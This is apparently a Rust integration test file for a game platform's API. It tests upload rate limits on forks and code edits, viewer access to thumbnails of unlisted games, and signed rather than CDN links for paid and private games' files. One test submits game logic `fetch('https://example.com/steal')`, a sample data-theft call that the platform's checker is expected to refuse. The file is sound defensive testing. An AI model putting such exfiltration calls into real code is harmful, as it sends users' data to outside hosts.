//! Who gets a game's files: the upload budget of forks and edits (charged before any copy or
//! unpacking), thumbnails of games that are not listed, and the links to a paid or private game's
//! files when a CDN is configured.

use aimini_models::storage::{ObjectKey, Storage};
use aimini_tests::{TestApp, TestUser, spawn_app_with};
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};
use uuid::Uuid;

const LOGIC: &str = "game.onUpdate(function (dt) { game.score(1); });";

fn logic() -> String {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../prompts/templates");
    std::fs::read_to_string(dir.join("dodger/logic.js")).unwrap_or_else(|_| LOGIC.to_owned())
}

async fn send(req: reqwest::RequestBuilder) -> (u16, Value) {
    let resp = req.send().await.expect("request");
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

fn as_user(req: reqwest::RequestBuilder, user: Option<&TestUser>) -> reqwest::RequestBuilder {
    match user {
        Some(u) => req.bearer_auth(&u.access_token),
        None => req,
    }
}

async fn upload(app: &TestApp, user: &TestUser, title: &str) -> Uuid {
    let (status, body) = send(
        app.client
            .post(app.url("/api/v1/games"))
            .bearer_auth(&user.access_token)
            .json(&json!({"title": title, "category": "action", "logic": logic()})),
    )
    .await;
    assert_eq!(status, 202, "{body}");
    body["id"].as_str().expect("id").parse().expect("uuid")
}

/// Puts the game in a state directly: `listed`, `private`, `moderated` or `deleted`.
async fn set_state(app: &TestApp, id: Uuid, state: &str) {
    let (status, is_public, deleted) = match state {
        "listed" => ("active", true, false),
        "private" => ("active", false, false),
        "moderated" => ("moderated", true, false),
        "deleted" => ("deleted", true, true),
        other => panic!("{other}"),
    };
    sqlx::query(
        "UPDATE games SET status = $2, is_public = $3, review = 'approved',
                deleted_at = CASE WHEN $4 THEN now() END WHERE id = $1",
    )
    .bind(id)
    .bind(status)
    .bind(is_public)
    .bind(deleted)
    .execute(&app.db)
    .await
    .expect("set game state");
}

async fn fork_count(app: &TestApp, id: Uuid) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM games WHERE forked_from = $1")
        .bind(id)
        .fetch_one(&app.db)
        .await
        .expect("count forks")
}

#[tokio::test]
async fn forks_and_code_edits_over_the_upload_budget_are_refused_before_any_work() {
    let app = spawn_app_with(|s| s.set("AIMINI_RATE_LIMIT_GAME_UPLOAD", "1/hour")).await;
    let owner = app.register("budgeted").await;
    // The one upload of the hour.
    let id = upload(&app, &owner, "Budget").await;
    set_state(&app, id, "listed").await;

    // A fork copies every object: it is an upload, and this one is over budget. Nothing is copied
    // and no game is made.
    let (status, body) = send(
        app.client
            .post(app.url(&format!("/api/v1/games/{id}/fork")))
            .bearer_auth(&owner.access_token),
    )
    .await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(body["error"]["code"], "rate_limited", "{body}");
    assert_eq!(fork_count(&app, id).await, 0);

    // New code over budget is refused before it is unpacked or checked: a package that could not
    // even be unpacked, and code the checker would refuse, both get 429 (not their 422).
    let form = Form::new().text("metadata", "{}").part(
        "package",
        Part::bytes(b"this is not a zip".to_vec())
            .file_name("game.zip")
            .mime_str("application/zip")
            .expect("mime"),
    );
    let (status, body) = send(
        app.client
            .put(app.url(&format!("/api/v1/games/{id}")))
            .bearer_auth(&owner.access_token)
            .multipart(form),
    )
    .await;
    assert_eq!(status, 429, "a broken zip was unpacked first: {body}");
    let (status, body) = send(
        app.client
            .put(app.url(&format!("/api/v1/games/{id}")))
            .bearer_auth(&owner.access_token)
            .json(&json!({"logic": "fetch('https://example.com/steal')"})),
    )
    .await;
    assert_eq!(status, 429, "the code was checked first: {body}");
    let versions: i64 = sqlx::query_scalar("SELECT count(*) FROM game_versions WHERE game_id = $1")
        .bind(id)
        .fetch_one(&app.db)
        .await
        .expect("versions");
    assert_eq!(versions, 1);

    // Editing texts costs nothing from the upload budget.
    let (status, body) = send(
        app.client
            .put(app.url(&format!("/api/v1/games/{id}")))
            .bearer_auth(&owner.access_token)
            .json(&json!({"description": "still editable"})),
    )
    .await;
    assert_eq!(status, 200, "{body}");
}

#[tokio::test]
async fn a_fork_within_budget_still_works_and_spends_it() {
    let app = spawn_app_with(|s| s.set("AIMINI_RATE_LIMIT_GAME_UPLOAD", "2/hour")).await;
    let owner = app.register("forker").await;
    let id = upload(&app, &owner, "Forkable").await;
    set_state(&app, id, "listed").await;
    let fork = || {
        send(
            app.client
                .post(app.url(&format!("/api/v1/games/{id}/fork")))
                .bearer_auth(&owner.access_token),
        )
    };
    let (status, body) = fork().await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = fork().await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(fork_count(&app, id).await, 1);
}

#[tokio::test]
async fn thumbnails_of_unlisted_games_reach_only_those_who_may_see_the_game() {
    let app = spawn_app_with(|s| s.set("AIMINI_RATE_LIMIT_GAME_UPLOAD", "100000/minute")).await;
    let owner = app.register("thumbowner").await;
    let other = app.register("thumbother").await;
    let moderator = app.user_with_role("thumbmod", "moderator").await;
    let admin = app.user_with_role("thumbadmin", "admin").await;
    let storage = Storage::connect(&app.config.storage)
        .await
        .expect("storage");
    let viewers: [(&str, Option<&TestUser>); 5] = [
        ("owner", Some(&owner)),
        ("other", Some(&other)),
        ("moderator", Some(&moderator)),
        ("admin", Some(&admin)),
        ("anonymous", None),
    ];
    for state in ["listed", "private", "moderated", "deleted"] {
        let id = upload(&app, &owner, &format!("Thumb {state}")).await;
        for name in ["small.webp", "large.webp"] {
            let key = ObjectKey::new(format!("games/{id}/thumbnails/{name}")).expect("key");
            storage
                .put(&key, b"RIFF\0\0\0\0WEBPthumb".to_vec().into(), "image/webp")
                .await
                .expect("put thumbnail");
        }
        let bare = app.url(&format!("/media/games/{id}/thumbnails/small.webp"));
        sqlx::query("UPDATE games SET thumbnail_url = $2 WHERE id = $1")
            .bind(id)
            .bind(format!("{bare}?v=abc"))
            .execute(&app.db)
            .await
            .expect("thumbnail url");
        set_state(&app, id, state).await;

        // The bare URL: public only while the game is listed; otherwise as if there were none.
        let resp = app.client.get(&bare).send().await.expect("fetch");
        let want = if state == "listed" { 200 } else { 404 };
        assert_eq!(resp.status().as_u16(), want, "{state}: bare thumbnail URL");
        let resp = app
            .client
            .get(format!("{bare}?t=9999999999.{}", "A".repeat(43)))
            .send()
            .await
            .expect("fetch");
        assert_eq!(
            resp.status().as_u16(),
            want,
            "{state}: a forged token is no token"
        );

        for (who, user) in viewers {
            let may_see = match state {
                "listed" => true,
                "private" | "moderated" => matches!(who, "owner" | "moderator" | "admin"),
                _ => matches!(who, "moderator" | "admin"),
            };
            let (status, body) = send(as_user(
                app.client.get(app.url(&format!("/api/v1/games/{id}"))),
                user,
            ))
            .await;
            assert_eq!(
                status,
                if may_see { 200 } else { 404 },
                "{state}/{who}: {body}"
            );
            if !may_see {
                continue;
            }
            for size in ["small", "large"] {
                let url = body["thumbnail"][size].as_str().expect("thumbnail url");
                if state != "listed" {
                    assert!(url.contains("t="), "{state}/{who}: unsigned {url}");
                }
                // Fetched as an <img> would: no credentials.
                let resp = app.client.get(url).send().await.expect("fetch");
                assert_eq!(resp.status(), 200, "{state}/{who}: {url}");
                assert_eq!(resp.headers()["content-type"], "image/webp");
                let cache = resp.headers()["cache-control"].to_str().expect("ascii");
                if state != "listed" {
                    assert!(cache.starts_with("private"), "{state}: {cache}");
                }
            }
        }
    }
}

#[tokio::test]
async fn paid_and_private_games_never_get_unsigned_cdn_links() {
    const CDN: &str = "https://cdn.example.test/aimini";
    let app = spawn_app_with(|s| {
        s.set("AIMINI_RATE_LIMIT_GAME_UPLOAD", "100000/minute");
        s.set("AIMINI_STORAGE_PUBLIC_BASE_URL", CDN);
    })
    .await;
    let owner = app.register("cdnowner").await;
    let admin = app.user_with_role("cdnadmin", "admin").await;
    let buyer = app.register("cdnbuyer").await;
    let code = logic();

    let assets = |id: Uuid, user: &TestUser| {
        send(
            app.client
                .get(app.url(&format!("/api/v1/games/{id}/assets")))
                .bearer_auth(&user.access_token),
        )
    };
    let urls = |body: &Value| -> Vec<String> {
        body["files"]
            .as_array()
            .expect("files")
            .iter()
            .map(|f| f["url"].as_str().expect("url").to_owned())
            .collect()
    };

    // A free, listed game: anyone may fetch its files, so a CDN URL is fine (the documented scheme).
    let free = upload(&app, &owner, "Free").await;
    set_state(&app, free, "listed").await;
    let (status, body) = assets(free, &buyer).await;
    assert_eq!(status, 200, "{body}");
    assert!(urls(&body).iter().all(|u| u.starts_with(CDN)), "{body}");

    // Private, and paid: expiring signed links to the API, never the CDN; and they work.
    let private = upload(&app, &owner, "Private").await;
    set_state(&app, private, "private").await;
    let paid = upload(&app, &owner, "Paid").await;
    set_state(&app, paid, "listed").await;
    sqlx::query(
        "INSERT INTO marketplace_listings (game_id, seller_id, price) VALUES ($1, $2, 4.99)",
    )
    .bind(paid)
    .bind(owner.id)
    .execute(&app.db)
    .await
    .expect("listing");
    for (what, id, user) in [
        ("private/owner", private, &owner),
        ("private/admin", private, &admin),
        ("paid/owner", paid, &owner),
        ("paid/admin", paid, &admin),
    ] {
        let (status, body) = assets(id, user).await;
        assert_eq!(status, 200, "{what}: {body}");
        let list = urls(&body);
        assert!(!list.is_empty(), "{what}: {body}");
        for url in list {
            assert!(!url.starts_with(CDN), "{what}: a CDN link {url}");
            assert!(
                url.starts_with(&app.url("/media/games/")) && url.contains("?t="),
                "{what}: {url}"
            );
            let resp = app.client.get(&url).send().await.expect("fetch");
            assert_eq!(resp.status(), 200, "{what}: {url}");
            if url.contains("logic.js") {
                assert_eq!(resp.text().await.expect("body"), code, "{what}");
            }
            // Without its token the same object is refused.
            let plain = url.split_once('?').expect("query").0;
            let resp = app.client.get(plain).send().await.expect("fetch");
            assert_eq!(resp.status(), 403, "{what}: {plain}");
        }
    }
    // Others still cannot see the private game, nor download the paid one without buying it.
    let (status, _) = assets(private, &buyer).await;
    assert_eq!(status, 404);
    let (status, _) = assets(paid, &buyer).await;
    assert_eq!(status, 402);
}
